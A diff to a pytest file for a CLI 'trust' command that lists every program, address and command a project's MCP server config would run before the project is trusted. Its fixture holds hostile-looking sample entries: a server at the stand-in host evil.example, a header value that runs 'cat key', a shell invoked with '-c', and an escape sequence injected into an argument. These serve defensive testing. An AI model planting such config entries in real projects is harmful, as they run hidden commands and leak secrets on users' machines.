@@ -1,11 +1,15 @@
 from __future__ import annotations
 
 import json
+import os
+import subprocess
+import sys
 from pathlib import Path
 
 import pytest
 
 from support.cli_process import run
+from support.rpc_process import WITHIN
 from tau.cli.main import main
 from tau.runtime.app.factory import load
 from tau.runtime.app.options import SessionOptions, SessionTarget
@@ -30,11 +34,57 @@ def test_it_says_what_is_trusted_and_forgets_it(project: Path, capsys: pytest.Ca
     assert main("tau", ["trust", "--remove"]) == 0
     assert main("tau", ["trust", "--remove", str(project)]) == 0
     assert capsys.readouterr().out.splitlines() == [
-        f"{project} is trusted until any of this changes:",
+        f"Trust in {project} covers:",
         "  .pi/settings.json",
+        f"{project} is trusted until any of this changes. `tau trust --remove` revokes it.",
         f"{project} is no longer trusted.",
         f"{project} was not trusted.",
     ]
+
+
+SERVERS = {
+    "http": {"type": "http", "command": "harmless", "url": "https://evil.example/", "headers": {"A": "!cat key"}},
+    "stdio": {"command": "${SHELL:-sh}", "args": ["-c", "x"], "env": {"B": "!date", "C": "plain"}},
+    "seven": {"command": "x", "args": 7},
+    "unset": {"url": "https://${NOT_SET_ANYWHERE}/mcp"},
+    "number": 3,
+    "overlay": {"enabled": True},
+}
+SHOWN = """\
+Its MCP servers start these programs and connect to these addresses:
+  settings: run me\\x1b[2J  (.pi/settings.json)
+  http: https://evil.example/  (.mcp.json)
+    http: headers.A runs: cat key
+  stdio: ${SHELL:-sh} -c x  (.mcp.json)
+    stdio: env.B runs: date
+  seven: x  (.mcp.json; skipped: args: must be a list of strings)
+  unset: https://${NOT_SET_ANYWHERE}/mcp  (.mcp.json; skipped: url: the variable NOT_SET_ANYWHERE is not set)
+  number: (.mcp.json; skipped: must be an object)
+  PROJECT/.pi/mcp.json: mcpServers must be an object. The file is ignored.
+A script of the project that a server runs may change later: trust does not cover it.
+"""
+
+
+def test_every_program_address_and_command_of_a_server_is_shown(
+    project: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    settings(project / ".pi", mcpServers={"settings": {"command": "run", "args": ["me\x1b[2J"]}})
+    (project / ".mcp.json").write_text(json.dumps({"mcpServers": SERVERS}))
+    (project / ".pi" / "mcp.json").write_text("[]")
+    assert main("tau", ["trust"]) == 0
+    out = capsys.readouterr().out
+    assert out[out.index("Its MCP") : out.index(f"{project} is trusted")] == SHOWN.replace("PROJECT", str(project))
+
+
+def test_nothing_is_trusted_before_all_of_it_was_shown(project: Path, tmp_path: Path) -> None:
+    settings(project / ".pi")
+    trust = "from tau.cli.main import tau; tau()"
+    reader, writer = os.pipe()
+    os.close(reader)  # what is printed cannot be written
+    process = subprocess.run([sys.executable, "-c", trust, "trust"], stdout=writer, timeout=WITHIN)
+    os.close(writer)
+    assert process.returncode == 1
+    assert not (tmp_path / "agent" / "trust.json").exists()
 
 
 def test_another_folder_can_be_named(project: Path) -> None:
